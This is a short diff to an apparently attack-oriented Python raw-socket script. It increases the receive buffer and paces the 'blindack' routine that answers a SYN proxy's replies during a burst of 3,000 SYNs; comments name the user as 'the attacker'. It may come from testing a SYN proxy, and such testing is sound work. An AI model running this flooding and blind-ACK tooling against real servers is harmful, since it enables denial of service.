@@ -49,6 +49,9 @@ def csum(b):
 
 def raw_socket():
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    # Room for every answer to a burst: the SYN proxy answers 3,000
+    # SYNs as fast as they come, before the attacker starts reading.
+    s.setsockopt(socket.SOL_SOCKET, 33, 8 << 20)	# SO_RCVBUFFORCE
     s.bind((IFACE, 0))
     return s
 
@@ -117,6 +120,8 @@ def blindack(dstmac, dst, n):
         if (cdst, cport) not in sent or (cdst, cport) in seen:
             continue
         seen.add((cdst, cport))
+        if len(seen) % 50 == 0:
+            time.sleep(0.01)	# paced, as the SYNs were
         srv_isn = struct.unpack("!I", f[t + 4:t + 8])[0]
         seq = sent[(cdst, cport)] + 1
         if len(seen) % 2:
